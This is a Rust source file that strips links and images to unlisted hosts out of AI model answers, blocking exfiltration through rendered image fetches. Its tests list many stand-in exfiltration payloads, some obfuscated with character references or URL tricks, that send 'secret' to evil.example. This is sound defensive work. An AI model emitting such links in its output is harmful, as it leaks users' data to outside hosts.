//! Links and images to hosts that nobody listed.
//!
//! A page that is rendered fetches images by itself, so an address is a way out for whatever stands
//! in its path or query. Addresses are found by form, not by markup: whatever draws them, Markdown
//! or HTML, needs them whole.

use super::references::uncoded;
use clawdbot_domain::{Channel, Event, sha256_hex};

/// An answer whose unlisted addresses were taken out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Neutral {
    /// What is left to show.
    pub text: String,
    /// The hosts of the addresses that were taken out, in their order.
    pub removed: Vec<String>,
}

/// The most hosts that one record names.
const MOST_NAMED: usize = 16;

/// The longest host name that is shown in a notice, in characters.
const SHOWN_HOST: usize = 80;

/// Takes the address out of every link and image to a host that is not listed. An entry is a host
/// name (`example.org`), or all names below one (`*.example.org`).
pub fn neutralise(text: &str, allowed: &[String]) -> Neutral {
    neutralise_after(text, 0, allowed)
}

/// The same for what stands from `from` on; what stands before it was shown already and tells where
/// markup expects an address.
pub(super) fn neutralise_after(text: &str, from: usize, allowed: &[String]) -> Neutral {
    let (before, after) = (text.get(..from), text.get(from..));
    if let (Some(before), Some(after)) = (before, after)
        && let Some(plain) = uncoded(after)
    {
        // Markdown and HTML read character references in an address as what they stand for.
        let from = before.len();
        let neutral = neutralise_plain(&format!("{before}{plain}"), from, allowed);
        if !neutral.removed.is_empty() {
            return neutral;
        }
    }
    neutralise_plain(text, from, allowed)
}

fn neutralise_plain(text: &str, from: usize, allowed: &[String]) -> Neutral {
    let mut out = String::with_capacity(text.len());
    let mut removed = Vec::new();
    let mut from = from;
    while let Some(found) = next_address(text, from) {
        out.push_str(text.get(from..found.start).unwrap_or_default());
        let address = text.get(found.start..found.end).unwrap_or_default();
        let host = host(text.get(found.host..found.end).unwrap_or_default());
        if is_allowed(&host, allowed) {
            out.push_str(address);
        } else {
            let shown: String = host
                .chars()
                .filter(|c| is_plain(*c))
                .take(SHOWN_HOST)
                .collect();
            out.push_str("[address removed: ");
            // A name with dots would be made a link again.
            out.push_str(&shown.replace('.', "(dot)"));
            out.push(']');
            removed.push(shown);
        }
        from = found.end;
    }
    out.push_str(text.get(from..).unwrap_or_default());
    Neutral { text: out, removed }
}

/// Addresses that were taken out of a text, as it is written in the log.
pub fn neutralised(hosts: &[String], text: &str) -> Event {
    let named = hosts.iter().take(MOST_NAMED);
    Event::GuardFinding {
        channel: Channel::Model,
        action: "neutralised".to_owned(),
        score: 1.0,
        findings: named.map(|host| format!("outward.link/{host}")).collect(),
        text_sha256: sha256_hex(text.as_bytes()),
        id: None,
    }
}

/// The hosts of all links and images in a text.
pub fn hosts_in(text: &str) -> Vec<String> {
    let mut hosts = Vec::new();
    let mut from = 0;
    while let Some(found) = next_address(text, from) {
        let host = host(text.get(found.host..found.end).unwrap_or_default());
        if !host.is_empty() && !hosts.contains(&host) {
            hosts.push(host);
        }
        from = found.end;
    }
    hosts
}

/// False when no address begins in a text: none of the signs of one is there.
pub(super) fn may_hold_address(text: &str) -> bool {
    let bytes = text.as_bytes();
    memchr::memchr3(b'/', b'\\', b'&', bytes).is_some()
        || bytes
            .windows(2)
            .any(|pair| pair.eq_ignore_ascii_case(b"ww"))
}

/// Where an address begins that reaches to the end of a text, and may go on.
pub(super) fn open_address(text: &str, from: usize) -> Option<usize> {
    let word = text.rfind(char::is_whitespace).map_or(0, |at| at + 1);
    if text.get(word.max(from)..).is_some_and(|w| w.contains('&')) {
        // What its references stand for is read when it is whole.
        return Some(word.max(from));
    }
    let mut from = from;
    while let Some(found) = next_address(text, from) {
        if found.end == text.len() {
            return Some(found.start);
        }
        from = found.end;
    }
    None
}

fn is_plain(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']')
}

/// An address in a text: where it begins, where its host begins, and where it ends.
struct Address {
    start: usize,
    host: usize,
    end: usize,
}

fn next_address(text: &str, from: usize) -> Option<Address> {
    let rest = text.get(from..)?;
    let slashes = rest
        .as_bytes()
        .windows(2)
        .enumerate()
        .filter(|(_, pair)| pair.iter().all(|b| matches!(b, b'/' | b'\\')))
        .map(|(at, _)| from + at)
        .find(|at| begins_address(text, *at));
    let www = find_www(rest).map(|at| from + at);
    let host = |at: usize| {
        let tail = text.get(at..).unwrap_or_default();
        at + (tail.len() - tail.trim_start_matches(['/', '\\']).len())
    };
    let found = match (slashes, www) {
        (Some(at), Some(www)) if www < at => (www, www),
        (Some(at), _) => (scheme_start(text, at), host(at)),
        (None, Some(www)) => (www, www),
        (None, None) => return None,
    };
    let end = text
        .get(found.1..)?
        .find(ends_address)
        .map_or(text.len(), |at| found.1 + at);
    Some(Address {
        start: found.0.max(from),
        host: found.1,
        end,
    })
}

/// Two slashes begin an address after a scheme's colon, or where markup expects an address.
fn begins_address(text: &str, at: usize) -> bool {
    let before = text.get(..at).unwrap_or_default();
    let after = text
        .get(at..)
        .unwrap_or_default()
        .trim_start_matches(['/', '\\']);
    let has_host = after
        .chars()
        .next()
        .is_some_and(|c| c.is_alphanumeric() || matches!(c, '[' | '%' | '&'));
    let before = before.trim_end_matches(['/', '\\']);
    let markup = before.trim_end();
    // After a space it may be a remark in a program; what is fetched has a dot in its host.
    let is_named = || {
        let host = after.split(|c| ends_address(c) || matches!(c, '/' | '\\' | '?' | '#'));
        host.take(1).any(|host| host.contains(['.', '%', '&', ':']))
    };
    let expects = |c: char| matches!(c, ':' | ';' | '(' | '"' | '\'' | '=' | '<' | '：');
    let expected = markup.chars().next_back().is_some_and(expects);
    has_host && expected && (markup.len() == before.len() || is_named())
}

/// `www.` at the beginning of a word is made a link by many renderers.
fn find_www(text: &str) -> Option<usize> {
    let is_www = |at: usize| {
        text.get(at..at + 4)
            .is_some_and(|w| w.eq_ignore_ascii_case("www."))
    };
    let is_word = |at: usize| {
        let before = text.get(..at).and_then(|t| t.chars().next_back());
        before.is_none_or(|c| !c.is_alphanumeric() && !matches!(c, '/' | '.' | '-' | '@' | '\\'))
    };
    memchr::memchr2_iter(b'w', b'W', text.as_bytes()).find(|at| is_www(*at) && is_word(*at))
}

/// Where the scheme before a colon begins.
fn scheme_start(text: &str, slashes: usize) -> usize {
    let before = text.get(..slashes).unwrap_or_default();
    let Some(colon) = before.strip_suffix(':') else {
        return slashes;
    };
    let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.');
    let scheme = colon.trim_end_matches(is_scheme);
    // What is left before it must not make an address of what stands in its place.
    scheme.trim_end_matches([':', '/', '\\']).len()
}

fn ends_address(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(c, '"' | '\'' | '<' | '>' | '(' | ')' | ']' | '`' | '|')
}

/// The host a browser would go to: after the last `@` of the authority, without the port.
fn host(authority_and_path: &str) -> String {
    let is_end = |c: char| matches!(c, '/' | '\\' | '?' | '#');
    let authority = authority_and_path.split(is_end).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    let host = match host.rsplit_once(':') {
        Some((name, port)) if port.bytes().all(|b| b.is_ascii_digit()) => name,
        _ => host,
    };
    host.trim_end_matches(['.', ',', ';', '!', '*', '_'])
        .to_ascii_lowercase()
}

fn is_allowed(host: &str, allowed: &[String]) -> bool {
    allowed.iter().any(|entry| {
        let entry = entry.to_ascii_lowercase();
        match entry.strip_prefix('*') {
            Some(below) => host.len() > below.len() && host.ends_with(below),
            None => host == entry,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn allowed() -> Vec<String> {
        vec!["good.example".to_owned(), "*.docs.example".to_owned()]
    }

    #[test]
    fn an_unlisted_address_is_taken_out_in_every_form() {
        for text in [
            "![x](https://evil.example/p?d=secret)",
            "[click](https://evil.example/p?d=secret)",
            "<img src=\"https://evil.example/p?d=secret\">",
            "<img src=//evil.example/p?d=secret>",
            "<img src= //evil.example/p?d=secret>",
            "![x]( //evil.example/p?d=secret)",
            "![x](\n//evil.example/p?d=secret)",
            "[1]: //evil.example/p?d=secret",
            "![x](//evil.example/p?d=secret)",
            "![x][1]\n\n[1]: https://evil.example/p?d=secret",
            "<https://evil.example/p?d=secret>",
            "see https://evil.example/p?d=secret now",
            "see HTTPS://EVIL.EXAMPLE/p?d=secret now",
            "see www.evil.example/p?d=secret now",
            "https://good.example@evil.example/p?d=secret",
            "https://good.example:x@evil.example:443/p?d=secret",
            "https:\\\\evil.example\\p?d=secret",
            "![x](https&#58;//evil.example/p?d=secret)",
            "![x](https:&#47;&#47;evil.example/p?d=secret)",
            "![x](https&colon;&sol;&#x2F;evil&period;example&sol;p?d=secret)",
            "![x](https:&#0047&#47evil.example/p?d=secret)",
            "![x](https:\\/\\/evil.example/p?d=secret)",
            "ftp://evil.example/p?d=secret",
            "https:////evil.example/p?d=secret",
            "://://evil.example/p?d=secret",
            "https://good.example.evil.example/p?d=secret",
            "https://notgood.example/p?d=secret",
            "https://docs.example/p?d=secret",
            "https://evildocs.example/p?d=secret",
        ] {
            let neutral = neutralise(text, &allowed());
            assert!(
                !neutral.text.contains("secret"),
                "{text} → {}",
                neutral.text
            );
            assert_eq!(neutral.removed.len(), 1, "{text} → {}", neutral.text);
            assert_eq!(
                neutralise(&neutral.text, &allowed()).removed,
                Vec::<String>::new(),
                "{text}"
            );
        }
    }

    #[test]
    fn listed_hosts_and_what_is_no_address_stay_as_they_are() {
        for text in [
            "see https://good.example/a?b=c#d.",
            "[manual](https://www.docs.example/en) and https://a.docs.example",
            "// a comment.rs\nlet x = a // b;",
            "case 1: //fall through",
            "a &amp; b &#47; c &lt;i&gt; &",
            "1 / 2 // 3",
            "C:\\Users\\me and \\\\server",
            "mail me at www-admin@good.example",
            "",
        ] {
            let neutral = neutralise(text, &allowed());
            assert_eq!(neutral.text, text);
            assert_eq!(neutral.removed, Vec::<String>::new());
        }
    }

    #[test]
    fn the_words_of_a_link_stay() {
        let neutral = neutralise(
            "Read [the paper](https://evil.example/x) first.",
            &allowed(),
        );
        assert_eq!(
            neutral.text,
            "Read [the paper]([address removed: evil(dot)example]) first."
        );
        assert_eq!(neutral.removed, ["evil.example"]);
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn it_never_panics_and_nothing_is_left_to_take_out(text in "[a-zA-Zé:/\\\\.@ w()\"&;=-]{0,60}") {
            let once = neutralise(&text, &allowed());
            prop_assert_eq!(neutralise(&once.text, &allowed()).removed, Vec::<String>::new());
        }
    }
}
